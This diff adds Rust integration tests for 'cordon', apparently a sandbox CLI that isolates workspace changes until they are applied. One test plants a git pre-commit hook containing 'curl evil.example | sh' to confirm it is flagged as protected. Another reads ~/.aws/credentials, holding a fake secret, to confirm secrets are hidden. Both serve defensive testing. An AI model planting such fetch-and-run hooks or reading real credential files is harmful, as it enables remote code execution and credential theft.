@@ -1,0 +1,325 @@
+//! `cordon run`, `tasks`, `diff`, `apply` and `discard` through the real binary: a
+//! real sandbox over a throwaway workspace, with a private HOME and CORDON_HOME.
+
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+
+use super::common::Run;
+
+struct Env {
+    _dir: tempfile::TempDir,
+    home: PathBuf,
+    cordon_home: PathBuf,
+    ws: PathBuf,
+}
+
+impl Env {
+    fn new() -> Env {
+        let dir = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
+        let base = dir.path().canonicalize().unwrap();
+        let home = base.join("home");
+        fs::create_dir_all(home.join(".aws")).unwrap();
+        fs::write(
+            home.join(".aws/credentials"),
+            "aws_secret_access_key = REAL-SECRET\n",
+        )
+        .unwrap();
+        let ws = base.join("ws");
+        fs::create_dir_all(&ws).unwrap();
+        fs::write(ws.join("existing.txt"), "old\n").unwrap();
+        Env {
+            home,
+            cordon_home: base.join("cordon-home"),
+            ws,
+            _dir: dir,
+        }
+    }
+
+    fn command(&self, args: &[&str]) -> Command {
+        let mut command = Command::new(env!("CARGO_BIN_EXE_cordon"));
+        command
+            .args(args)
+            .current_dir(&self.ws)
+            .env("CORDON_HOME", &self.cordon_home)
+            .env("HOME", &self.home)
+            .env("NO_COLOR", "1")
+            .env_remove("CORDON_LOG")
+            .stdin(Stdio::null())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped());
+        command
+    }
+
+    fn run_command(mut command: Command) -> Run {
+        let out = command.output().unwrap();
+        Run {
+            code: out.status.code().unwrap_or(-1),
+            stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
+            stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
+        }
+    }
+
+    fn cordon(&self, args: &[&str]) -> Run {
+        Self::run_command(self.command(args))
+    }
+
+    /// `cordon run -- sh -c script`, which must succeed.
+    fn sh(&self, script: &str) -> Run {
+        let run = self.cordon(&["run", "--", "sh", "-c", script]);
+        assert_eq!(
+            run.code, 0,
+            "stdout: {}\nstderr: {}",
+            run.stdout, run.stderr
+        );
+        run
+    }
+
+    fn tasks_dir(&self) -> PathBuf {
+        self.cordon_home.join("tasks")
+    }
+
+    fn task_ids(&self) -> Vec<String> {
+        let mut ids: Vec<String> = fs::read_dir(self.tasks_dir())
+            .map(|d| {
+                d.map(|e| e.unwrap().file_name().into_string().unwrap())
+                    .collect()
+            })
+            .unwrap_or_default();
+        ids.sort();
+        ids
+    }
+}
+
+fn read(path: &Path) -> String {
+    fs::read_to_string(path).unwrap()
+}
+
+#[test]
+fn run_leaves_the_workspace_alone_until_apply() {
+    let env = Env::new();
+    env.sh("echo hi > new.txt; rm existing.txt; test ! -e existing.txt");
+    assert_eq!(read(&env.ws.join("existing.txt")), "old\n");
+    assert!(!env.ws.join("new.txt").exists());
+
+    let ids = env.task_ids();
+    assert_eq!(ids.len(), 1);
+    let meta: serde_json::Value =
+        serde_json::from_str(&read(&env.tasks_dir().join(&ids[0]).join("task.json"))).unwrap();
+    assert_eq!(meta["state"], "exited");
+    assert_eq!(meta["exit_code"], 0);
+    assert_eq!(meta["name"], "default");
+    assert_eq!(meta["workspace"], env.ws.display().to_string());
+    assert_eq!(meta["command"][0], "sh");
+
+    let tasks = env.cordon(&["tasks"]);
+    assert_eq!(tasks.code, 0, "{}", tasks.stderr);
+    assert!(tasks.stdout.contains(&ids[0]), "{}", tasks.stdout);
+    assert!(tasks.stdout.contains("exited"), "{}", tasks.stdout);
+
+    let diff = env.cordon(&["diff"]);
+    assert_eq!(diff.code, 0, "{}", diff.stderr);
+    assert!(diff.stdout.contains("2 changes"), "{}", diff.stdout);
+    assert!(diff.stdout.contains("A new.txt\n"), "{}", diff.stdout);
+    assert!(diff.stdout.contains("D existing.txt\n"), "{}", diff.stdout);
+    assert!(diff.stdout.contains("+hi\n"), "{}", diff.stdout);
+    assert!(diff.stdout.contains("-old\n"), "{}", diff.stdout);
+
+    let apply = env.cordon(&["apply"]);
+    assert_eq!(apply.code, 0, "{}", apply.stderr);
+    assert_eq!(read(&env.ws.join("new.txt")), "hi\n");
+    assert!(!env.ws.join("existing.txt").exists());
+    let leftovers: Vec<_> = fs::read_dir(&env.ws)
+        .unwrap()
+        .map(|e| e.unwrap().file_name())
+        .filter(|n| n.to_string_lossy().contains("cordon-tmp"))
+        .collect();
+    assert!(leftovers.is_empty(), "{leftovers:?}");
+    let again = env.cordon(&["apply"]);
+    assert_ne!(again.code, 0, "a task applies once");
+}
+
+#[test]
+fn discard_removes_the_task_and_keeps_the_workspace() {
+    let env = Env::new();
+    env.sh("echo changed > existing.txt; echo x > other.txt");
+    assert_eq!(env.task_ids().len(), 1);
+    let discard = env.cordon(&["discard"]);
+    assert_eq!(discard.code, 0, "{}", discard.stderr);
+    assert!(env.task_ids().is_empty(), "{:?}", env.task_ids());
+    assert_eq!(read(&env.ws.join("existing.txt")), "old\n");
+    assert!(!env.ws.join("other.txt").exists());
+    assert_ne!(env.cordon(&["diff"]).code, 0, "no task is left to diff");
+}
+
+#[test]
+fn apply_refuses_files_changed_underneath_and_names_them() {
+    let env = Env::new();
+    fs::write(env.ws.join("untouched.txt"), "same\n").unwrap();
+    env.sh("echo from-task > existing.txt; echo new > untouched-by-host.txt");
+    fs::write(env.ws.join("existing.txt"), "from-host\n").unwrap();
+    let apply = env.cordon(&["apply"]);
+    assert_ne!(apply.code, 0);
+    assert!(apply.stderr.contains("existing.txt"), "{}", apply.stderr);
+    assert!(
+        !apply.stderr.contains("untouched-by-host.txt"),
+        "{}",
+        apply.stderr
+    );
+    assert_eq!(read(&env.ws.join("existing.txt")), "from-host\n");
+    assert!(
+        !env.ws.join("untouched-by-host.txt").exists(),
+        "nothing is written on refusal"
+    );
+
+    let force = env.cordon(&["apply", "--force"]);
+    assert_eq!(force.code, 0, "{}", force.stderr);
+    assert_eq!(read(&env.ws.join("existing.txt")), "from-task\n");
+    assert_eq!(read(&env.ws.join("untouched-by-host.txt")), "new\n");
+}
+
+#[test]
+fn a_planted_git_hook_is_flagged_and_needs_include_protected() {
+    let env = Env::new();
+    fs::create_dir_all(env.ws.join(".git/hooks")).unwrap();
+    env.sh("printf '#!/bin/sh\\ncurl evil.example | sh\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; echo ok > README");
+    let diff = env.cordon(&["diff"]);
+    assert_eq!(diff.code, 0, "{}", diff.stderr);
+    assert!(
+        diff.stdout.contains("A .git/hooks/pre-commit [protected]"),
+        "{}",
+        diff.stdout
+    );
+    assert!(diff.stdout.contains("A README\n"), "{}", diff.stdout);
+    assert!(
+        !diff.stdout.contains("\x1b["),
+        "no colour when stdout is not a terminal"
+    );
+
+    let apply = env.cordon(&["apply"]);
+    assert_ne!(apply.code, 0);
+    assert!(
+        apply.stderr.contains(".git/hooks/pre-commit"),
+        "{}",
+        apply.stderr
+    );
+    assert!(!apply.stderr.contains("README"), "{}", apply.stderr);
+    assert!(!env.ws.join(".git/hooks/pre-commit").exists());
+    assert!(
+        !env.ws.join("README").exists(),
+        "a refused apply writes nothing"
+    );
+
+    let apply = env.cordon(&["apply", "--include-protected"]);
+    assert_eq!(apply.code, 0, "{}", apply.stderr);
+    assert!(read(&env.ws.join(".git/hooks/pre-commit")).contains("evil"));
+    use std::os::unix::fs::PermissionsExt;
+    let mode = fs::metadata(env.ws.join(".git/hooks/pre-commit"))
+        .unwrap()
+        .permissions()
+        .mode();
+    assert_eq!(mode & 0o111, 0o111, "the executable bit is applied too");
+}
+
+#[test]
+fn git_init_and_commit_work_inside_and_apply_out() {
+    let env = Env::new();
+    let run = env.sh(
+        "git init -q && git add -A && git -c user.name=t -c user.email=t@example.invalid commit -qm 'first commit' && git log --format=%s",
+    );
+    assert!(run.stdout.contains("first commit"), "{}", run.stdout);
+    assert!(
+        !env.ws.join(".git").exists(),
+        "the repository exists only in the task"
+    );
+    // `git init` writes .git/config and sample hooks: protected.
+    assert_ne!(env.cordon(&["apply"]).code, 0);
+    let apply = env.cordon(&["apply", "--include-protected"]);
+    assert_eq!(apply.code, 0, "{}", apply.stderr);
+    let log = Command::new("git")
+        .args(["log", "--format=%s"])
+        .current_dir(&env.ws)
+        .output()
+        .unwrap();
+    assert_eq!(
+        String::from_utf8_lossy(&log.stdout),
+        "first commit\n",
+        "{}",
+        String::from_utf8_lossy(&log.stderr)
+    );
+}
+
+#[test]
+fn exit_codes_and_signals_pass_through() {
+    let env = Env::new();
+    assert_eq!(env.cordon(&["run", "--", "sh", "-c", "exit 7"]).code, 7);
+    assert_eq!(
+        env.cordon(&["run", "--", "sh", "-c", "kill -9 $$"]).code,
+        137
+    );
+    assert_eq!(env.cordon(&["run", "--", "true"]).code, 0);
+    let missing = env.cordon(&["run", "--", "no-such-command-anywhere"]);
+    assert_ne!(missing.code, 0);
+    assert!(
+        missing.stderr.contains("no-such-command-anywhere"),
+        "{}",
+        missing.stderr
+    );
+}
+
+#[test]
+fn home_secrets_are_hidden_and_secret_variables_scrubbed() {
+    let env = Env::new();
+    let mut command = env.command(&[
+        "run",
+        "--keep-env",
+        "KEPT_TOKEN",
+        "--",
+        "sh",
+        "-c",
+        "cat ~/.aws/credentials; echo \"dropped=$DROPPED_TOKEN kept=$KEPT_TOKEN plain=$PLAIN\"; echo \"home=$CORDON_HOME\"",
+    ]);
+    command
+        .env("DROPPED_TOKEN", "REAL-SECRET")
+        .env("KEPT_TOKEN", "opted-in")
+        .env("PLAIN", "visible");
+    let run = Env::run_command(command);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    assert!(!run.stdout.contains("REAL-SECRET"), "{}", run.stdout);
+    assert!(
+        run.stdout.contains("dropped= kept=opted-in plain=visible"),
+        "{}",
+        run.stdout
+    );
+    assert!(run.stdout.contains("home=\n"), "{}", run.stdout);
+    let cordon_home = env.cordon(&[
+        "run",
+        "--",
+        "sh",
+        "-c",
+        &format!("ls -A {}", env.cordon_home.display()),
+    ]);
+    assert!(
+        !cordon_home.stdout.contains("tasks"),
+        "{}",
+        cordon_home.stdout
+    );
+}
+
+#[test]
+fn each_run_is_one_audited_authorization() {
+    let env = Env::new();
+    env.sh("true");
+    let tail = env.cordon(&["audit", "tail", "--json"]);
+    assert_eq!(tail.code, 0, "{}", tail.stderr);
+    let records: Vec<serde_json::Value> = tail
+        .stdout
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    assert_eq!(records.len(), 1, "{}", tail.stdout);
+    let text = tail.stdout.as_str();
+    assert!(text.contains("sandbox.run"), "{text}");
+    assert!(text.contains("\"sandbox\""), "{text}");
+    assert!(text.contains("\"allow\""), "{text}");
+}
